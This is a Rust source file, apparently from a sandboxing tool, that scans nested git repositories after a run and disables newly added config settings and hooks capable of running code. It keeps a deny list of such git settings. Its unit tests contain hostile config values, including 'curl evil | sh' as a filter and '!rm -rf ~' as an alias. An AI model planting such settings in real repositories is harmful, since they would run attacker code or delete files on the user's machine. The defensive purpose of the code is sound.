//! Git settings a tool leaves behind. A repository's `.git` directly in a
//! writable root is read-only to every contained program; a repository
//! nested deeper, or one a tool makes, is not — and git runs code its
//! configuration names (`core.fsmonitor`, `core.hooksPath`, filters,
//! `!` aliases, …) and its hooks on the person's next `git status`, on the
//! host. So after a run, [`sweep`] looks at every nested repository under
//! the writable roots: what changed in one since the run began is made
//! harmless — a setting that runs code commented out, a hook set aside —
//! and said.

use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::SystemTime;

/// Settings whose value git runs (or that pull in settings from elsewhere).
/// Matched on `section.key`, lowercase; `*` is any subsection.
const RUNS_CODE: &[&str] = &[
    "core.fsmonitor",
    "core.hookspath",
    "core.sshcommand",
    "core.pager",
    "core.editor",
    "core.askpass",
    "core.gitproxy",
    "core.alternaterefscommand",
    "gpg.ssh.defaultkeycommand",
    "submodule.*.update",
    "trailer.*.command",
    "trailer.*.cmd",
    "sequence.editor",
    "diff.external",
    "diff.*.textconv",
    "diff.*.command",
    "difftool.*.cmd",
    "mergetool.*.cmd",
    "filter.*.clean",
    "filter.*.smudge",
    "filter.*.process",
    "merge.*.driver",
    "credential.helper",
    "credential.*.helper",
    "gpg.program",
    "gpg.*.program",
    "uploadpack.packobjectshook",
    "pager.*",
    "interactive.difffilter",
    "include.path",
    "includeif.*.path",
    "remote.*.uploadpack",
    "remote.*.receivepack",
    "alias.*",
];

/// What a hook set aside is renamed with.
const DISABLED: &str = ".disabled-by-hermitcrab";

/// Makes harmless what changed since `since` in the repositories nested
/// under `roots` (not a root's own `.git`, which programs cannot write);
/// answers what it did, a line each.
pub fn sweep(roots: &[PathBuf], since: SystemTime) -> Vec<String> {
    let mut found = Vec::new();
    for root in roots {
        let mut dirs = vec![root.clone()];
        while let Some(dir) = dirs.pop() {
            let Ok(entries) = std::fs::read_dir(&dir) else {
                continue;
            };
            for entry in entries.flatten() {
                let Ok(kind) = entry.file_type() else {
                    continue;
                };
                let path = entry.path();
                let is_git = entry.file_name() == ".git";
                if is_git && dir != *root {
                    found.extend(repository(&path, since));
                } else if kind.is_dir() && !is_git {
                    dirs.push(path);
                }
            }
        }
    }
    found
}

/// A nested repository's `.git` (a directory, or a file pointing to one).
fn repository(dot_git: &Path, since: SystemTime) -> Vec<String> {
    let git_dir = if dot_git.is_dir() {
        dot_git.to_path_buf()
    } else {
        match pointed(dot_git) {
            Some(dir) => dir,
            None => return Vec::new(),
        }
    };
    let mut said = git_dir_swept(&git_dir, since);
    // git reads the settings and hooks of the directory `commondir` names
    // too (a linked worktree's, or one a tool wrote)
    if let Some(common) = common_dir(&git_dir).filter(|c| *c != git_dir) {
        said.extend(git_dir_swept(&common, since));
    }
    said
}

/// The directory `git_dir/commondir` names, when it names one.
fn common_dir(git_dir: &Path) -> Option<PathBuf> {
    let file = git_dir.join("commondir");
    if !std::fs::symlink_metadata(&file).is_ok_and(|m| m.is_file()) {
        return None;
    }
    let text = std::fs::read_to_string(&file).ok()?;
    let dir = git_dir.join(text.trim());
    dir.is_dir().then_some(dir)
}

/// What changed since `since` in one git directory's settings and hooks,
/// made harmless; what it did.
fn git_dir_swept(git_dir: &Path, since: SystemTime) -> Vec<String> {
    let mut said = Vec::new();
    for name in ["config", "config.worktree"] {
        let config = git_dir.join(name);
        // (what is not a regular file — a FIFO, a device behind a link —
        // is never read: reading it could wait forever)
        let regular = std::fs::metadata(&config).is_ok_and(|m| m.is_file());
        if regular && changed_since(&config, since) {
            said.extend(defuse_config(&config));
        }
    }
    let hooks = git_dir.join("hooks");
    if let Ok(entries) = std::fs::read_dir(&hooks) {
        for entry in entries.flatten() {
            let path = entry.path();
            let name = entry.file_name().to_string_lossy().into_owned();
            if name.ends_with(".sample") || name.ends_with(DISABLED) {
                continue;
            }
            if changed_since(&path, since) {
                let aside = hooks.join(format!("{name}{DISABLED}"));
                if std::fs::rename(&path, &aside).is_ok() {
                    said.push(format!(
                        "set aside the hook {} (now {})",
                        path.display(),
                        aside.display()
                    ));
                }
            }
        }
    }
    said
}

/// The directory a `.git` file points to (`gitdir: …`).
fn pointed(dot_git: &Path) -> Option<PathBuf> {
    let text = std::fs::read_to_string(dot_git).ok()?;
    let target = text.trim().strip_prefix("gitdir:")?.trim();
    let base = dot_git.parent()?;
    Some(base.join(target))
}

/// Whether `path` (itself, not what a link points to) changed since
/// `since`: its status-change time, which a program cannot set back.
fn changed_since(path: &Path, since: SystemTime) -> bool {
    let Ok(meta) = std::fs::symlink_metadata(path) else {
        return false;
    };
    let changed = std::time::UNIX_EPOCH
        + std::time::Duration::new(meta.ctime().max(0) as u64, meta.ctime_nsec().max(0) as u32);
    changed >= since
}

/// Takes out of `config` the settings that run code; answers what it
/// took out. The keys are read as git reads them (`git config --file F
/// --list`, which runs nothing and follows no include), so no way of
/// writing one — on its section's line, split over lines, in odd case —
/// escapes; each is then unset by git itself. Without git on the machine
/// (nothing would run them yet) the text is read line by line instead.
fn defuse_config(config: &Path) -> Vec<String> {
    match keys_as_git_reads(config) {
        Some(keys) => unset_as_git(config, &keys),
        None => defuse_text(config),
    }
}

/// `git config` confined to the file it is given: no system or global
/// configuration read, no terminal prompt, nothing inherited that would
/// point it elsewhere.
fn git_config(config: &Path) -> std::process::Command {
    let mut command = std::process::Command::new("git");
    command
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_TERMINAL_PROMPT", "0")
        .env_remove("GIT_CONFIG")
        .env_remove("GIT_CONFIG_PARAMETERS")
        .env_remove("GIT_CONFIG_COUNT")
        .env_remove("GIT_DIR")
        .stdin(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .arg("config")
        .arg("--file")
        .arg(config);
    command
}

/// The keys `config` sets, as git reads them (`section[.subsection].key`,
/// section and key lowercase); `None` when git cannot be run.
fn keys_as_git_reads(config: &Path) -> Option<Vec<String>> {
    let out = git_config(config)
        .args(["--null", "--name-only", "--list"])
        .output()
        .ok()?;
    if !out.status.success() {
        // a file git cannot parse is one git will refuse to use as well;
        // the text's own reading still takes out what it can
        return None;
    }
    let mut keys: Vec<String> = out
        .stdout
        .split(|b| *b == 0)
        .filter(|k| !k.is_empty())
        .map(|k| String::from_utf8_lossy(k).into_owned())
        .collect();
    keys.dedup();
    Some(keys)
}

/// Unsets each of `keys` that runs code, with git; answers what it took
/// out. Should git leave one (it never has), the file is set aside whole.
fn unset_as_git(config: &Path, keys: &[String]) -> Vec<String> {
    let mut names: Vec<String> = keys.iter().filter(|k| runs_code(k)).cloned().collect();
    names.dedup();
    if names.is_empty() {
        return Vec::new();
    }
    // a link is replaced by the file it shows, never written through
    if std::fs::symlink_metadata(config).is_ok_and(|m| m.file_type().is_symlink()) {
        let text = std::fs::read(config).unwrap_or_default();
        let _ = std::fs::remove_file(config);
        let _ = std::fs::write(config, text);
    }
    for name in &names {
        let _ = git_config(config).args(["--unset-all", name]).status();
    }
    let left = keys_as_git_reads(config)
        .unwrap_or_default()
        .into_iter()
        .any(|k| runs_code(&k));
    if left {
        let aside = config.with_extension(DISABLED.trim_start_matches('.'));
        let _ = std::fs::rename(config, &aside);
        return vec![format!(
            "set aside {} (now {}): it sets {}",
            config.display(),
            aside.display(),
            names.join(", ")
        )];
    }
    names
        .into_iter()
        .map(|n| format!("disabled `{n}` in {}", config.display()))
        .collect()
}

/// Comments out the settings of `config` that run code, reading its text
/// line by line; answers what it commented out.
fn defuse_text(config: &Path) -> Vec<String> {
    let Ok(text) = std::fs::read_to_string(config) else {
        return Vec::new();
    };
    let (defused, names) = defuse(&text);
    if names.is_empty() {
        return Vec::new();
    }
    // Replace a link with the defused text, rather than write through it.
    let _ = std::fs::remove_file(config);
    if std::fs::write(config, defused).is_err() {
        return Vec::new();
    }
    names
        .into_iter()
        .map(|n| format!("disabled `{n}` in {}", config.display()))
        .collect()
}

/// `text` (a git config file) with each setting that runs code commented
/// out, and their names.
pub fn defuse(text: &str) -> (String, Vec<String>) {
    let mut out = String::with_capacity(text.len());
    let mut names = Vec::new();
    let mut section = String::new();
    let mut continued = false;
    for line in text.split_inclusive('\n') {
        let trimmed = line.trim();
        if continued {
            out.push_str("# ");
            out.push_str(line);
            continued = trimmed.ends_with('\\');
            continue;
        }
        let mut trimmed = trimmed;
        let mut kept_header = "";
        if let Some(header) = trimmed.strip_prefix('[') {
            section = header_name(header);
            // git reads a setting on the section's own line (`[core]
            // fsmonitor = x`)
            let rest = after_header(header).trim();
            if rest.is_empty() || rest.starts_with(['#', ';']) {
                out.push_str(line);
                continue;
            }
            trimmed = rest;
            kept_header = &line.trim_start()[..1 + header.len() - after_header(header).len()];
        }
        let key = trimmed
            .split(['=', ' ', '\t'])
            .next()
            .unwrap_or_default()
            .to_lowercase();
        let name = format!("{section}.{key}");
        if !key.is_empty() && !trimmed.starts_with(['#', ';']) && runs_code(&name) {
            if !kept_header.is_empty() {
                out.push_str(kept_header);
                out.push('\n');
            }
            out.push_str("# disabled by hermitcrab (it would run code): ");
            out.push_str(if kept_header.is_empty() {
                line
            } else {
                trimmed
            });
            if !kept_header.is_empty() {
                out.push('\n');
            }
            names.push(name);
            continued = trimmed.ends_with('\\');
        } else {
            out.push_str(line);
        }
    }
    (out, names)
}

/// What follows a section header's closing `]` on its line.
fn after_header(header: &str) -> &str {
    let mut quoted = false;
    let mut escaped = false;
    for (i, c) in header.char_indices() {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            '"' => quoted = !quoted,
            ']' if !quoted => return &header[i + 1..],
            _ => {}
        }
    }
    ""
}

/// `section` or `section.subsection` of a `[section "subsection"]` header
/// (the section lowercase; the subsection as written).
fn header_name(header: &str) -> String {
    let inside = header.len() - after_header(header).len();
    let header = header[..inside]
        .strip_suffix(']')
        .unwrap_or(&header[..inside])
        .trim();
    match header.split_once(char::is_whitespace) {
        Some((section, sub)) => format!(
            "{}.{}",
            section.to_lowercase(),
            sub.trim().trim_matches('"')
        ),
        None => header.to_lowercase(),
    }
}

/// Whether the setting `section[.subsection].key` runs code.
pub fn runs_code(name: &str) -> bool {
    let (section, rest) = name.split_once('.').unwrap_or((name, ""));
    let key = rest.rsplit('.').next().unwrap_or(rest);
    let sub = rest.strip_suffix(key).map(|s| s.trim_end_matches('.'));
    RUNS_CODE.iter().any(|pattern| {
        let parts: Vec<&str> = pattern.split('.').collect();
        match parts.as_slice() {
            [s, k] if *k == "*" => *s == section,
            [s, k] => *s == section && *k == key && sub.is_none_or(str::is_empty),
            [s, _, k] => *s == section && *k == key && sub.is_some_and(|s| !s.is_empty()),
            _ => false,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn settings_that_run_code_are_commented_out_and_the_rest_kept() {
        let text = "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ./evil.sh\n[filter \"lfs\"]\n\tclean = curl evil | sh\n[remote \"origin\"]\n\turl = https://x\n[alias]\n\tst = !rm -rf ~\n[user]\n\tname = me\n";
        let (out, names) = defuse(text);
        assert_eq!(names, ["core.fsmonitor", "filter.lfs.clean", "alias.st"]);
        assert!(out.contains("repositoryformatversion = 0"));
        assert!(out.contains("url = https://x"));
        assert!(out.contains("name = me"));
        assert!(!out.lines().any(|l| l.trim() == "fsmonitor = ./evil.sh"));
    }

    #[test]
    fn a_setting_on_its_sections_line_is_read_as_git_reads_it() {
        let text = "[core] fsmonitor = ./evil.sh\n\tbare = false\n[alias \"x]\"] y = !sh\n";
        let (out, names) = defuse(text);
        assert_eq!(names, ["core.fsmonitor", "alias.x].y"]);
        assert!(out.starts_with("[core]\n# disabled"), "{out}");
        assert!(out.contains("\tbare = false"));
    }

    #[test]
    fn git_itself_finds_and_unsets_what_runs_code() {
        if std::process::Command::new("git")
            .arg("--version")
            .output()
            .is_err()
        {
            return;
        }
        let dir = tempfile::tempdir().unwrap();
        let config = dir.path().join("config");
        std::fs::write(
            &config,
            "[core] fsmonitor = ./evil.sh\n\trepositoryformatversion = 0\n[CORE]\n\tHooksPath = h\n[user]\n\tname = me\n",
        )
        .unwrap();
        let said = defuse_config(&config);
        assert_eq!(said.len(), 2, "{said:?}");
        let keys = keys_as_git_reads(&config).unwrap();
        assert_eq!(keys, ["core.repositoryformatversion", "user.name"]);
    }
}
